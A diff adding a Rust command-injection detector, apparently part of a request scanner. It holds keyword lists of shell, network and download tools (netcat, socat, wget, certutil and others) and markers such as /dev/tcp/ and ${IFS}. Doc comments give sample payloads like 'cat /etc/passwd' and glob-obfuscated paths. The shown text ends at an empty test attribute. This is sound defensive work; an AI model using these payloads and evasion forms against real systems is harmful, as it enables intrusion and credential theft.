@@ -1,6 +1,1222 @@
-//! OS command injection: shell metacharacters followed by commands.
+//! OS command injection: the value is split the way a POSIX shell would (quotes removed,
+//! backslash escapes undone, `${IFS}` as a blank, unknown `$VAR` expansions dropped, brace
+//! expansion applied) into commands separated by `;`, `|`, `&`, newlines, backticks, `$(`
+//! and `<(`. A command is reported when its name is a known Unix or Windows command and the
+//! context makes execution plausible:
+//!
+//! - after a substitution (`` `id` ``, `$(id)`): any known command;
+//! - after a separator (`;`, `|`, `&&`, newline): a distinctive command (`whoami`, `wget`
+//!   with a URL, `/bin/sh`), or a common-word command (`cat`, `more`, `time`) only with
+//!   shell-looking arguments (`-x` options, absolute paths, redirections, `$VAR`);
+//! - at the start of the value: the same, so `cat /etc/passwd` fires and `cat pictures`,
+//!   `Tom & Jerry`, `rock | paper`, `R&D; sales` do not.
+//!
+//! Also: shellshock `() {`, Windows `for … in (…) do` / `if exist|errorlevel|==`, `%COMSPEC%`,
+//! `/dev/tcp/`, arithmetic `$((…))`/`$[…]`, and glob-obfuscated paths (`/???/c?t`,
+//! `/etc/pa[s]swd`).
 
-use super::Candidate;
-use crate::detect::finding::Finding;
+use super::{text::around, Candidate};
+use crate::detect::{
+    finding::{Finding, Kind, Severity},
+    inputs::Source,
+};
 
-pub fn check(_c: &Candidate<'_>, _out: &mut Vec<Finding>) {}
+/// Commands stored per value and words kept per command (more are only scanned).
+const MAX_COMMANDS: usize = 64;
+const MAX_WORDS: usize = 6;
+const MAX_WORD: usize = 48;
+
+/// Commands whose name alone, in a command position, is a strong signal.
+const STRONG: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "traceroute",
+    "tracert",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "bash",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "sh",
+    "busybox",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "regedit",
+    "wmic",
+    "cscript",
+    "wscript",
+    "schtasks",
+    "tasklist",
+    "taskkill",
+    "systeminfo",
+    "nbtstat",
+    "bcdedit",
+    "bcdboot",
+    "diskpart",
+    "vssadmin",
+    "wevtutil",
+    "icacls",
+    "cacls",
+    "visudo",
+    "useradd",
+    "usermod",
+    "userdel",
+    "chmod",
+    "chown",
+    "chattr",
+    "crontab",
+    "iptables",
+    "tcpdump",
+    "nmap",
+    "strace",
+    "ltrace",
+    "lsof",
+    "xxd",
+    "hexdump",
+    "base64",
+    "base32",
+    "gunzip",
+    "zcat",
+    "bzcat",
+    "xzcat",
+    "zstdcat",
+    "unxz",
+    "bunzip2",
+    "bsdtar",
+    "printenv",
+    "getent",
+    "mkfifo",
+    "mknod",
+    "killall",
+    "pkill",
+    "lwp-download",
+    "lwp-request",
+    "tftp",
+    "sftp",
+    "scp",
+    "rsync",
+    "irb",
+    "gcc",
+    "g++",
+    "clang",
+    "c89",
+    "c99",
+    "awk",
+    "gawk",
+    "mawk",
+    "nawk",
+    "grep",
+    "egrep",
+    "fgrep",
+    "xargs",
+    "iwr",
+    "iex",
+    "irm",
+    "iwmi",
+    "invoke-webrequest",
+    "invoke-expression",
+    "invoke-restmethod",
+    "invoke-wmimethod",
+    "start-process",
+    "new-object",
+    "set-executionpolicy",
+    "cscli",
+    "cpulimit",
+    "lastlog",
+    "lastlogin",
+    "htop",
+    "aptitude",
+    "apt-get",
+    "dpkg",
+    "yum",
+    "zstd",
+    "wsl",
+    "sudo",
+    "nohup",
+    "ssh",
+    "python2",
+    "python3",
+    "perl",
+    "php",
+    "ansible",
+    "pwd",
+    "zypper",
+    "apk",
+];
+
+/// Commands that are also common words or identifiers: reported only with shell-looking
+/// arguments (or, after a separator in a value without blanks, alone: `x;ps`).
+const WEAK: &[&str] = &[
+    "cat",
+    "tac",
+    "nl",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "ls",
+    "dir",
+    "id",
+    "ps",
+    "top",
+    "kill",
+    "env",
+    "set",
+    "export",
+    "alias",
+    "trap",
+    "wget",
+    "curl",
+    "fetch",
+    "nc",
+    "ftp",
+    "ping",
+    "dig",
+    "host",
+    "whois",
+    "arp",
+    "route",
+    "ip",
+    "ss",
+    "w",
+    "who",
+    "last",
+    "finger",
+    "uptime",
+    "history",
+    "echo",
+    "printf",
+    "sleep",
+    "date",
+    "find",
+    "locate",
+    "which",
+    "whereis",
+    "file",
+    "stat",
+    "touch",
+    "tee",
+    "cp",
+    "mv",
+    "rm",
+    "rmdir",
+    "mkdir",
+    "ln",
+    "dd",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "bzip2",
+    "xz",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+    "wc",
+    "rev",
+    "fold",
+    "column",
+    "comm",
+    "diff",
+    "paste",
+    "join",
+    "split",
+    "sed",
+    "python",
+    "ruby",
+    "node",
+    "nodejs",
+    "lua",
+    "java",
+    "make",
+    "cc",
+    "gdb",
+    "vi",
+    "vim",
+    "ex",
+    "ed",
+    "nano",
+    "emacs",
+    "mount",
+    "umount",
+    "service",
+    "systemctl",
+    "shutdown",
+    "reboot",
+    "halt",
+    "su",
+    "passwd",
+    "type",
+    "copy",
+    "move",
+    "del",
+    "ren",
+    "ver",
+    "vol",
+    "reg",
+    "sc",
+    "net",
+    "netsh",
+    "start",
+    "call",
+    "cmd",
+    "cd",
+    "exec",
+    "eval",
+    "source",
+    "bridge",
+    "perf",
+    "rmt",
+    "flock",
+    "openssl",
+    "md5sum",
+    "sha256sum",
+    "strings",
+    "od",
+    "screen",
+    "tmux",
+    "watch",
+    "wall",
+    "mail",
+    "chef",
+    "pip",
+    "npm",
+    "rpm",
+    "nice",
+    "timeout",
+    "findstr",
+    "attrib",
+    "xcopy",
+];
+
+/// Distinctive commands that fire even as the whole value (`whoami`); other names alone
+/// (`base64`, `php`, `lastlog`) are ordinary field values.
+const SOLO: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "uname",
+    "netstat",
+    "systeminfo",
+    "tasklist",
+    "visudo",
+    "printenv",
+    "htop",
+    "getent",
+    "nslookup",
+];
+
+/// Downloaders, for which a URL argument is evidence.
+const FETCHERS: &[&str] = &[
+    "wget",
+    "curl",
+    "fetch",
+    "lwp-download",
+    "lwp-request",
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "ftp",
+    "tftp",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+];
+
+/// Words that run the command after them (`time sh`, `nohup id`, `env x=1 sh`).
+const WRAPPERS: &[&str] = &[
+    "time", "nohup", "strace", "ltrace", "sudo", "doas", "env", "exec", "nice", "timeout", "xargs",
+    "command", "builtin", "busybox", "stdbuf", "setsid", "unbuffer", "then", "do", "!", "{",
+    "call",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Sep {
+    Start,
+    /// `;`, `|`, `||`, `&`, `&&`, newline.
+    Chain,
+    /// `(` or `)`: a subshell, or (far more often) a parenthesis in prose; judged like the
+    /// start of the value.
+    Paren,
+    /// Backtick, `$(`, `<(`, `>(`.
+    Subst,
+}
+
+#[derive(Debug)]
+struct Command {
+    sep: Sep,
+    /// Byte offset in the value where the command starts.
+    pos: usize,
+    words: Vec<Vec<u8>>,
+    /// Arguments that look like shell usage: `-x` options, absolute paths, URLs.
+    shell_args: bool,
+    /// Redirections, `$VAR` expansions or here-strings.
+    shell_syntax: bool,
+    /// An argument holding `://` (evidence for downloaders only).
+    url_arg: bool,
+    nargs: usize,
+}
+
+impl Command {
+    fn new(sep: Sep, pos: usize) -> Self {
+        Self {
+            sep,
+            pos,
+            words: Vec::new(),
+            shell_args: false,
+            shell_syntax: false,
+            url_arg: false,
+            nargs: 0,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Strength {
+    Weak,
+    Strong,
+}
+
+pub fn check(c: &Candidate<'_>, out: &mut Vec<Finding>) {
+    let value = c.decoded;
+    let b = value.as_bytes();
+    if b.is_empty() || c.input.source == Source::Path {
+        return;
+    }
+    let mut report = |rule: &'static str, pos: usize| {
+        out.push(Finding::new(
+            Kind::CommandInjection,
+            rule,
+            Severity::Critical,
+            c.input.location(),
+            around(value, pos),
+        ));
+    };
+    if let Some(p) = shellshock(b) {
+        report("cmdi.shellshock", p);
+        return;
+    }
+    if let Some(p) = windows_syntax(b) {
+        report("cmdi.windows", p);
+        return;
+    }
+    if let Some(p) = shell_marker(b) {
+        report("cmdi.shell", p);
+        return;
+    }
+    // Raw bodies are markup more often than shell: quotes there delimit attributes.
+    let commands = tokenize(b, c.input.source != Source::Body);
+    let has_upper = b.iter().any(u8::is_ascii_uppercase);
+    let prose = is_prose(b);
+    let blank_free_prefix = |pos: usize| {
+        !b[..pos.min(b.len())]
+            .iter()
+            .any(|x| x.is_ascii_whitespace())
+    };
+    for (n, cmd) in commands.iter().enumerate() {
+        let Some((word, strength)) = command_name(cmd) else {
+            continue;
+        };
+        // Time-based blind probes: `;sleep 10`.
+        let delay = word == b"sleep"
+            && cmd
+                .words
+                .get(1)
+                .is_some_and(|w| w.iter().all(u8::is_ascii_digit));
+        let fetch = cmd.url_arg && FETCHERS.iter().any(|f| f.as_bytes() == word);
+        let evidence = cmd.shell_args || cmd.shell_syntax || delay || fetch;
+        let chained_next = commands
+            .get(n + 1)
+            .is_some_and(|next| next.sep != Sep::Start && command_name(next).is_some());
+        let fire = match (cmd.sep, strength) {
+            (Sep::Subst, _) => true,
+            (Sep::Chain, Strength::Strong) => true,
+            // At the start, a distinctive name followed by prose ("GCC Runtime Library",
+            // "Lsof has trouble …") is a sentence, not a command line.
+            (Sep::Start | Sep::Paren, _) if prose => false,
+            (Sep::Start | Sep::Paren, Strength::Strong) => {
+                evidence
+                    || chained_next
+                    || (cmd.nargs == 0
+                        && (solo(word)
+                            || cmd.words.iter().any(|w| w.windows(4).any(|p| p == b"bin/"))))
+                    || (cmd.nargs > 0 && cmd.nargs <= 2 && !has_upper)
+            }
+            (Sep::Chain, Strength::Weak) => {
+                evidence || chained_next || (cmd.nargs == 0 && blank_free_prefix(cmd.pos))
+            }
+            (Sep::Start | Sep::Paren, Strength::Weak) => {
+                evidence || (chained_next && cmd.nargs > 0)
+            }
+        };
+        // `sh` and friends as a bare word in prose ("SH" for a state) need a context.
+        let fire =
+            fire && !(cmd.sep == Sep::Start && cmd.nargs == 0 && word.len() <= 2 && !evidence);
+        // Parameter names only count after a separator (`pwd`, `perl` are names).
+        let fire = fire && !(c.input.is_name() && cmd.sep == Sep::Start);
+        if fire {
+            report("cmdi.shell", cmd.pos);
+            return;
+        }
+    }
+    if let Some(p) = glob_path(&commands) {
+        report("cmdi.glob", p);
+    }
+}
+
+/// Five or more words, most of them plain alphabetic: a sentence, in which a leading
+/// "Make", "Find" or "IP" is a word rather than a command.
+fn is_prose(b: &[u8]) -> bool {
+    let words = split_words(b);
+    let alpha = words
+        .iter()
+        .filter(|(_, w)| {
+            let w = w
+                .strip_suffix(b".")
+                .or_else(|| w.strip_suffix(b","))
+                .unwrap_or(w);
+            !w.is_empty() && w.iter().all(u8::is_ascii_alphabetic)
+        })
+        .count();
+    words.len() >= 5 && alpha * 10 >= words.len() * 6
+}
+
+/// `() {` at the start of the value: a bash function definition (CVE-2014-6271).
+fn shellshock(b: &[u8]) -> Option<usize> {
+    let start = b.iter().position(|x| !x.is_ascii_whitespace())?;
+    let rest = &b[start..];
+    let rest = rest.strip_prefix(b"(")?;
+    let rest = skip_blanks(rest).strip_prefix(b")")?;
+    skip_blanks(rest).starts_with(b"{").then_some(start)
+}
+
+fn skip_blanks(b: &[u8]) -> &[u8] {
+    let n = b.iter().take_while(|x| **x == b' ' || **x == b'\t').count();
+    &b[n..]
+}
+
+/// Markers that only shell payloads contain.
+fn shell_marker(b: &[u8]) -> Option<usize> {
+    use super::text::find_ci;
+    if !b
+        .iter()
+        .any(|&x| matches!(x, b'$' | b'%' | b'/' | b'<' | b'>' | b'~'))
+    {
+        return None;
+    }
+    for m in [
+        &b"${ifs"[..],
+        b"$ifs",
+        b"/dev/tcp/",
+        b"/dev/udp/",
+        b"%comspec%",
+        b"$((",
+        b"<<<",
+    ] {
+        if let Some(p) = find_ci(b, m) {
+            return Some(p);
+        }
+    }
+    // `${x#pat}`, `${PATH%/*}`, `${`id`}`: parameter expansion operators.
+    let mut from = 0;
+    while let Some(p) = super::text::find_ci_from(b, b"${", from) {
+        from = p + 2;
+        let body = &b[p + 2..];
+        let name = body
+            .iter()
+            .take_while(|x| x.is_ascii_alphanumeric() || **x == b'_')
+            .count();
+        if matches!(body.get(name), Some(b'#' | b'%' | b'/' | b'`')) || body.first() == Some(&b'`')
+        {
+            return Some(p);
+        }
+    }
+    // `$[2+2]` arithmetic and `~+` / `~-1` directory-stack words as the whole value.
+    if let Some(p) = find_ci(b, b"$[") {
+        if b[p..].contains(&b']') {
+            return Some(p);
+        }
+    }
+    let t = b.trim_ascii();
+    if t.len() >= 2
+        && t[0] == b'~'
+        && (t[1] == b'+' || t[1] == b'-')
+        && t[2..].iter().all(u8::is_ascii_digit)
+    {
+        return Some(0);
+    }
+    None
+}
+
+/// `for /f %a in (…) do …` and `if exist|not|errorlevel|/i …` / `if a==b cmd` (cmd.exe).
+fn windows_syntax(b: &[u8]) -> Option<usize> {
+    let lower = b.to_ascii_lowercase();
+    let words: Vec<(usize, &[u8])> = split_words(&lower);
+    for (i, &(pos, w)) in words.iter().enumerate() {
+        let starts_command = i == 0
+            || matches!(words[i - 1].1.last(), Some(b'&' | b'|' | b';' | b'('))
+            || words[i - 1].1 == b"&";
+        if !starts_command {
+            continue;
+        }
+        let rest = &words[i + 1..];
+        if w == b"for" {
+            let var = rest.iter().take(6).position(|(_, x)| x.starts_with(b"%"));
+            let in_paren = rest
+                .iter()
+                .position(|(_, x)| *x == b"in" || x.starts_with(b"in("));
+            if let (Some(v), Some(k)) = (var, in_paren) {
+                let after = &lower[rest[k].0..];
+                if v < k && after.contains(&b'(') && has_do(after) {
+                    return Some(pos);
+                }
+            }
+        }
+        if w == b"if" {
+            let Some(&(_, next)) = rest.first() else {
+                continue;
+            };
+            // `if not exist x`, `if /i a==b`: look past `not` / `/i` for the keyword.
+            let key = match next {
+                b"not" | b"/i" => rest.get(1).map(|(_, w)| *w),
+                _ => Some(next),
+            };
+            if next == b"/i"
+                || matches!(
+                    key,
+                    Some(b"exist" | b"errorlevel" | b"cmdextversion" | b"defined")
+                ) && rest.len() >= 3
+                    && !rest[..3].iter().any(|(_, w)| w.ends_with(b","))
+            {
+                return Some(pos);
+            }
+            let cmp = rest.iter().take(4).position(|(_, x)| {
+                x.windows(2).any(|p| p == b"==")
+                    || matches!(*x, b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq")
+            });
+            if let Some(k) = cmp {
+                // The comparison must be complete and followed by a command.
+                let op = rest[k].1;
+                let needed = if op.contains(&b'=') && !op.ends_with(b"==") {
+                    1
+                } else {
+                    2
+                };
+                if rest.len() > k + needed {
+                    return Some(pos);
+                }
+            }
+        }
+    }
+    None
+}
+
+fn has_do(after: &[u8]) -> bool {
+    let Some(close) = after.iter().position(|&x| x == b')') else {
+        return false;
+    };
+    let t = skip_blanks(&after[close + 1..]);
+    t.starts_with(b"do") && t.get(2).is_none_or(|x| !x.is_ascii_alphanumeric())
+}
+
+fn split_words(b: &[u8]) -> Vec<(usize, &[u8])> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() && out.len() < 256 {
+        while i < b.len() && b[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        let start = i;
+        while i < b.len() && !b[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        if i > start {
+            out.push((start, &b[start..i]));
+        }
+    }
+    out
+}
+
+/// Splits `b` into commands as described in the module docs.
+fn tokenize(b: &[u8], quoting: bool) -> Vec<Command> {
+    // An unbalanced quote kind does not quote at all (apostrophes in prose, `'TiMe sh`).
+    let singles = quoting && b.iter().filter(|&&x| x == b'\'').count() % 2 == 0;
+    let doubles = quoting && b.iter().filter(|&&x| x == b'"').count() % 2 == 0;
+    let mut cmds: Vec<Command> = Vec::new();
+    let mut cur = Command::new(Sep::Start, 0);
+    let mut word: Vec<u8> = Vec::new();
+    let mut in_word = false;
+    let mut quote: Option<u8> = None;
+    let mut backtick_open = false;
+    let mut i = 0;
+
+    macro_rules! end_word {
+        () => {
+            if in_word {
+                push_word(&mut cur, std::mem::take(&mut word));
+                in_word = false;
+            }
+        };
+    }
+    macro_rules! end_cmd {
+        ($sep:expr, $next:expr) => {{
+            end_word!();
+            let done = std::mem::replace(&mut cur, Command::new($sep, $next));
+            if !done.words.is_empty() && cmds.len() < MAX_COMMANDS {
+                cmds.push(done);
+            }
+        }};
+    }
+
+    while i < b.len() {
+        let x = b[i];
+        if let Some(q) = quote {
+            if x == q {
+                quote = None;
+            } else if q == b'"' && x == b'\\' && i + 1 < b.len() {
+                i += 1;
+                word.push(b[i].to_ascii_lowercase());
+            } else {
+                word.push(x.to_ascii_lowercase());
+            }
+            i += 1;
+            continue;
+        }
+        match x {
+            b'\'' if singles => {
+                quote = Some(x);
+                in_word = true;
+            }
+            b'"' if doubles => {
+                quote = Some(x);
+                in_word = true;
+            }
+            b'\'' | b'"' => in_word = true,
+            b'\\' => {
+                // `\ls`: escaping a command name to skip aliases (and naive filters).
+                if !in_word && cur.words.is_empty() {
+                    cur.shell_syntax = true;
+                }
+                in_word = true;
+                if let Some(&n) = b.get(i + 1) {
+                    if n != b'\n' {
+                        word.push(n.to_ascii_lowercase());
+                    }
+                    i += 1;
+                }
+            }
+            b' ' | b'\t' | b',' if !in_braces(&word) || x != b',' => end_word!(),
+            b';' | b'\n' | b'\r' | b'|' | b'&' => {
+                end_cmd!(Sep::Chain, i + 1);
+            }
+            b'`' => {
+                let run = b[i..].iter().take_while(|&&x| x == b'`').count();
+                // Markdown: fences (```) and inline code after a blank are not substitution.
+                let glued = i > 0 && !b[i - 1].is_ascii_whitespace() && b[i - 1] != b'(';
+                let sep = if run == 1 && (backtick_open || glued) {
+                    backtick_open = !backtick_open;
+                    if backtick_open {
+                        Sep::Subst
+                    } else {
+                        Sep::Chain
+                    }
+                } else {
+                    Sep::Chain
+                };
+                end_cmd!(sep, i + run);
+                i += run;
+                continue;
+            }
+            b'$' => {
+                let rest = &b[i + 1..];
+                if rest.first() == Some(&b'(') {
+                    end_cmd!(Sep::Subst, i + 2);
+                    i += 2;
+                    continue;
+                }
+                let (name, used) = var_name(rest);
+                i += 1 + used;
+                if name.eq_ignore_ascii_case(b"ifs") {
+                    end_word!();
+                    cur.shell_syntax = true;
+                } else if name.eq_ignore_ascii_case(b"shell")
+                    || name.eq_ignore_ascii_case(b"bash")
+                    || name == b"0"
+                {
+                    word.extend_from_slice(b"sh");
+                    in_word = true;
+                } else if !name.is_empty() && !name[0].is_ascii_digit() {
+                    cur.shell_syntax = true;
+                } else if name.is_empty() {
+                    word.push(b'$');
+                    in_word = true;
+                }
+                continue;
+            }
+            // Arrows (`->`, `=>`) in prose are no redirections.
+            b'>' if i > 0 && matches!(b[i - 1], b'-' | b'=') => {}
+            b'<' | b'>' => {
+                if b.get(i + 1) == Some(&b'(') {
+                    end_cmd!(Sep::Subst, i + 2);
+                    i += 2;
+                    continue;
+                }
+                end_word!();
+                cur.shell_syntax = true;
+            }
+            b'(' | b')' if word.is_empty() || x == b')' => {
+                // `&&(sh)`: a subshell right after a separator keeps that separator.
+                let sep = if x == b'(' && !in_word && cur.words.is_empty() && cur.sep == Sep::Chain
+                {
+                    Sep::Chain
+                } else {
+                    Sep::Paren
+                };
+                end_cmd!(sep, i + 1);
+            }
+            _ => {
+                if word.len() < MAX_WORD {
+                    word.push(x.to_ascii_lowercase());
+                }
+                in_word = true;
+            }
+        }
+        i += 1;
+    }
+    if in_word {
+        push_word(&mut cur, word);
+    }
+    if !cur.words.is_empty() && cmds.len() < MAX_COMMANDS {
+        cmds.push(cur);
+    }
+    cmds
+}
+
+/// Inside an unclosed `{` of a brace expansion (`{a,b}` keeps its commas).
+fn in_braces(word: &[u8]) -> bool {
+    let open = word.iter().rposition(|&x| x == b'{');
+    let close = word.iter().rposition(|&x| x == b'}');
+    match (open, close) {
+        (Some(o), Some(c)) => o > c,
+        (Some(_), None) => true,
+        _ => false,
+    }
+}
+
+/// The variable name after `$` (`IFS`, `{IFS}`, `1`, `@`) and the bytes it used.
+fn var_name(rest: &[u8]) -> (&[u8], usize) {
+    match rest.first() {
+        Some(b'{') => {
+            let Some(end) = rest.iter().take(64).position(|&x| x == b'}') else {
+                return (&[], 0);
+            };
+            (&rest[1..end], end + 1)
+        }
+        Some(x) if x.is_ascii_digit() || matches!(x, b'@' | b'*' | b'#' | b'?' | b'!' | b'$') => {
+            (&rest[..1], 1)
+        }
+        Some(x) if x.is_ascii_alphabetic() || *x == b'_' => {
+            let n = rest
+                .iter()
+                .take_while(|x| x.is_ascii_alphanumeric() || **x == b'_')
+                .count();
+            (&rest[..n], n)
+        }
+        _ => (&[], 0),
+    }
+}
+
+/// Adds a finished word (after brace expansion) to the command and notes shell-looking
+/// arguments.
+fn push_word(cmd: &mut Command, word: Vec<u8>) {
+    let braces = word.contains(&b'{') && word.contains(&b',') && word.contains(&b'}');
+    let expanded = brace_expand(word);
+    // Brace expansion producing a command name is shell-only syntax: `{cat,/etc/hosts}`.
+    if braces && cmd.words.is_empty() {
+        cmd.shell_syntax = true;
+    }
+    for w in expanded {
+        if !cmd.words.is_empty() {
+            cmd.nargs += 1;
+            let shellish =
+                (w.len() >= 2 && w[0] == b'-' && (w[1].is_ascii_alphabetic() || w[1] == b'-'))
+                    || (w.len() >= 2 && w[0] == b'/' && w[1] != b'/')
+                    || w.starts_with(b"~/")
+                    || w.starts_with(b"c:")
+                    || w.contains(&b'%');
+            cmd.shell_args |= shellish;
+            cmd.url_arg |= w.windows(3).any(|p| p == b"://");
+            // `alias x=cmd` defines a command.
+            cmd.shell_args |= cmd.words.first().is_some_and(|c| c == b"alias") && w.contains(&b'=');
+        }
+        if cmd.words.len() < MAX_WORDS {
+            cmd.words.push(w);
+        }
+    }
+}
+
+/// `pre{a,b}post` → `preapost`, `prebpost` (one level, empty results dropped).
+fn brace_expand(word: Vec<u8>) -> Vec<Vec<u8>> {
+    let (Some(o), Some(c)) = (
+        word.iter().position(|&x| x == b'{'),
+        word.iter().rposition(|&x| x == b'}'),
+    ) else {
+        return vec![word];
+    };
+    if o > c || !word[o..c].contains(&b',') {
+        return vec![word];
+    }
+    let (pre, inner, post) = (&word[..o], &word[o + 1..c], &word[c + 1..]);
+    inner
+        .split(|&x| x == b',')
+        .take(8)
+        .map(|alt| [pre, alt, post].concat())
+        .filter(|w| !w.is_empty())
+        .collect()
+}
+
+/// The command's name (after assignments and wrappers) and how telling it is.
+fn command_name(cmd: &Command) -> Option<(&[u8], Strength)> {
+    let mut words = cmd.words.iter().map(Vec::as_slice).peekable();
+    let mut best: Option<(&[u8], Strength)> = None;
+    for _ in 0..MAX_WORDS {
+        let w = words.next()?;
+        // `a=b` assignments before a command.
+        if let Some(eq) = w.iter().position(|&x| x == b'=') {
+            if eq > 0
+                && w[..eq]
+                    .iter()
+                    .all(|x| x.is_ascii_alphanumeric() || *x == b'_')
+            {
+                // `cmd=whoami` in a raw body or XML attribute: the value may be the command.
+                if let Some(found) = classify(&w[eq + 1..]) {
+                    return Some(found);
+                }
+                continue;
+            }
+        }
+        let name = w.strip_prefix(b"@").unwrap_or(w);
+        let found = classify(name);
+        if WRAPPERS.iter().any(|x| x.as_bytes() == name) && words.peek().is_some() {
+            best = best.or(found);
+            continue;
+        }
+        return found.or(best);
+    }
+    best
+}
+
+fn classify(word: &[u8]) -> Option<(&[u8], Strength)> {
+    let path_qualified = word.contains(&b'/');
+    let base = match word.iter().rposition(|&x| x == b'/') {
+        Some(p) => &word[p + 1..],
+        None => word,
+    };
+    let base = base
+        .strip_suffix(b".exe")
+        .or_else(|| base.strip_suffix(b".com"))
+        .unwrap_or(base);
+    if base.is_empty() {
+        return None;
+    }
+    // `/usr/bin/anything`, `bin/ansible`: a binary by its path.
+    if path_qualified {
+        let dir = &word[..word.len() - base.len()];
+        if dir.ends_with(b"bin/") && base[0].is_ascii_alphabetic() {
+            return Some((base, Strength::Strong));
+        }
+        // `Anthropic/Python 0.25` (a product token) is no program path.
+        if !(word.starts_with(b"/") || word.starts_with(b"./") || word.starts_with(b"~/")) {
+            return None;
+        }
+    }
+    if base.iter().any(|x| matches!(x, b'?' | b'*' | b'[')) {
+        return glob_command(base).map(|_| (base, Strength::Strong));
+    }
+    lookup(base).map(|s| {
+        // `/bin/cat` is as telling as `whoami`.
+        let s = if path_qualified { Strength::Strong } else { s };
+        (base, s)
+    })
+}
+
+fn solo(name: &[u8]) -> bool {
+    SOLO.iter().any(|x| x.as_bytes() == name)
+        || (lookup(name) == Some(Strength::Strong)
+            && !STRONG.iter().chain(WEAK).any(|x| x.as_bytes() == name))
+}
+
+fn lookup(name: &[u8]) -> Option<Strength> {
+    let is = |list: &[&str]| list.iter().any(|x| x.as_bytes() == name);
+    if is(STRONG) {
+        return Some(Strength::Strong);
+    }
+    if is(WEAK) {
+        return Some(Strength::Weak);
+    }
+    // Versioned interpreters and tool families: `python3.10`, `gcc10.1`, `ansible-vault`.
+    let stem_len = name
+        .iter()
+        .rposition(|x| !(x.is_ascii_digit() || *x == b'.'))
+        .map_or(0, |p| p + 1);
+    let version = &name[stem_len..];
+    if version.first().is_some_and(u8::is_ascii_digit) && stem_len >= 2 {
+        let stem = &name[..stem_len];
+        if STRONG.iter().chain(WEAK).any(|x| x.as_bytes() == stem) {
+            return Some(Strength::Strong);
+        }
+    }
+    for family in ["ansible-", "chef-", "rmt-", "aa-", "apt-", "systemd-"] {
+        if name.starts_with(family.as_bytes()) && name.len() > family.len() {
+            return Some(Strength::Strong);
+        }
+    }
+    None
+}
+
+/// A known command matched by a glob pattern (`c?t`, `wh[o]ami`); the pattern needs a literal.
+fn glob_command(pattern: &[u8]) -> Option<&'static str> {
+    if pattern.iter().filter(|x| x.is_ascii_alphabetic()).count() < 2 {
+        return None;
+    }
+    STRONG
+        .iter()
+        .chain(WEAK)
+        .find(|c| c.len() >= 2 && glob_match(pattern, c.as_bytes(), 0))
+        .copied()
+}
+
+/// Shell glob matching with `?`, `*` and `[…]` classes; recursion bounded by `depth`.
+fn glob_match(p: &[u8], s: &[u8], depth: usize) -> bool {
+    if depth > 16 {
+        return false;
+    }
+    match p.first() {
+        None => s.is_empty(),
+        Some(b'*') => (0..=s.len()).any(|k| glob_match(&p[1..], &s[k..], depth + 1)),
+        Some(b'?') => !s.is_empty() && glob_match(&p[1..], &s[1..], depth + 1),
+        Some(b'[') => {
+            let Some(end) = p.iter().skip(1).position(|&x| x == b']').map(|e| e + 1) else {
+                return s.first() == Some(&b'[') && glob_match(&p[1..], &s[1..], depth + 1);
+            };
+            let Some(&ch) = s.first() else {
+                return false;
+            };
+            let class = &p[1..end];
+            let (neg, class) = match class.first() {
+                Some(b'!' | b'^') => (true, &class[1..]),
+                _ => (false, class),
+            };
+            let mut hit = false;
+            let mut k = 0;
+            while k < class.len() {
+                if k + 2 < class.len() && class[k + 1] == b'-' {
+                    hit |= class[k] <= ch && ch <= class[k + 2];
+                    k += 3;
+                } else {
+                    hit |= class[k] == ch;
+                    k += 1;
+                }
+            }
+            hit != neg && glob_match(&p[end + 1..], &s[1..], depth + 1)
+        }
+        Some(&c) => s.first() == Some(&c) && glob_match(&p[1..], &s[1..], depth + 1),
+    }
+}
+
+/// An absolute path written with glob classes or wildcards to dodge word filters
+/// (`/etc/pa[s]swd`, `/???/c?t`, `/bin/ca?`).
+fn glob_path(commands: &[Command]) -> Option<usize> {
+    for cmd in commands {
+        for w in &cmd.words {
+            if w.len() < 4 || w[0] != b'/' || w.contains(&b'=') || w.contains(&b'&') {
+                continue;
+            }
+            let segs = w.split(|&x| x == b'/').filter(|s| !s.is_empty()).count();
+            // A bracket class inside a name (`pa[s]swd`), not a regex (`/[a-z]{1,5}/`).
+            let mut outside = Vec::with_capacity(w.len());
+            let mut depth = 0;
+            for &x in w {
+                match x {
+                    b'[' => depth += 1,
+                    b']' if depth > 0 => depth -= 1,
+                    _ if depth == 0 => outside.push(x),
+                    _ => {}
+                }
+            }
+            let bracket = w.contains(&b'[')
+                && w.contains(&b']')
+                && !outside.contains(&b'{')
+                && outside.iter().filter(|x| x.is_ascii_alphabetic()).count() >= 3;
+            let questions = w.iter().filter(|&&x| x == b'?').count();
+            let trailing_q = w.last() == Some(&b'?') && questions == 1 && segs >= 2;
+            if segs >= 1 && (bracket || questions >= 2 || trailing_q) {
+                return Some(cmd.pos);
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use std::borrow::Cow;
+
+    use super::*;
+    use crate::detect::{inputs::Input, normalize};
+
+    fn run(source: Source, value: &str) -> Vec<Finding> {
+        let input = Input {
+            source,
+            name: Cow::Borrowed("q"),
+            value: Cow::Borrowed(value),
+        };
+        let decoded = normalize::decode(value);
+        let c = Candidate {
+            input: &input,
+            decoded: &decoded,
+        };
+        let mut out = Vec::new();
+        check(&c, &mut out);
+        out
+    }
+
+    fn rule(value: &str) -> Option<&'static str> {
+        let f = run(Source::Query, value);
+        assert!(f.len() <= 1, "{f:?}");
+        f.first().map(|f| {
+            assert_eq!(f.kind, Kind::CommandInjection);
+            assert_eq!(f.severity, Severity::Critical);
+            assert_eq!(f.location, "query:q");
+            f.rule_id
+        })
+    }
+
+    #[test]
